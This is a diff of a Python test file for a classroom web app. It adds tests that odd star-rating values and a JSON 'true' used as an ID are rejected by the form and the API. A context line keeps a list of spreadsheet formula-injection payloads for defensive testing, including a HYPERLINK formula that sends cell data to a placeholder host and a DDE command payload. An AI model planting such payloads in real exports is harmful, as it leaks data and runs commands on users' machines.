@@ -13,8 +13,9 @@ from datetime import date, timedelta
 import pytest
 
 from classroom.models import Role
-from tests.conftest import School
+from tests.conftest import School, SchoolFactory
 from tests.report_school import seed
+from tests.test_class_reports import over_class
 
 # OWASP's list: what a spreadsheet reads as the start of a formula (or a DDE call).
 FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
@@ -163,3 +164,31 @@ async def test_every_state_changing_route_refuses_a_forged_csrf_token(school: Sc
     for path in ("/rates", "/classes/{lesson_id}/report", "/classes/{lesson_id}/rating",
                  "/substitute", "/classes/{lesson_id}/attendance/{user_id}"):  # fmt: skip
         assert path in checked, path
+
+
+ODD_STARS = ["1e9", "NaN", "Infinity", "-1", "4.5", "٣", "99999999999999999999", "", " ", "5 stars"]
+
+
+async def test_odd_stars_are_refused_on_the_field_by_the_form_and_the_api(
+    school_with: SchoolFactory,
+) -> None:
+    c = await over_class(school_with)
+    await c.close()
+    path = f"/classes/{c.lesson_id}/rating"
+    for stars in ODD_STARS:
+        status, _, page = await c.ana[1].form(path, {"stars": stars, "comment": "ok"})
+        assert status == 422 and 'id="e-stars"' in page, (stars, status)
+        status, body = await c.ana[1].api("POST", c.path("/rating"), {"stars": stars})
+        assert status == 422 and "stars" in body["error"]["fields"], (stars, body)
+    for stars in (float("nan"), 1e308, -(2**63), 2**64, True, None, [5], {"n": 5}):
+        status, body = await c.ana[1].api("POST", c.path("/rating"), {"stars": stars})
+        assert status == 422 and "stars" in body["error"]["fields"], (stars, body)
+
+
+async def test_true_is_not_an_id(school: School) -> None:
+    """JSON true used to be read as 1: the first tutor's rate, a class of one seat."""
+    _, coordinator = await school.join(Role.COORDINATOR)
+    await school.person(Role.TUTOR)
+    rate = {"tutor_id": True, "unit": "hour", "amount": "1", "effective_from": "2026-01-01"}
+    status, body = await coordinator.api("POST", "/api/v1/rates", rate)
+    assert status == 422 and body["error"]["fields"] == {"tutor_id": "Please enter a whole number"}
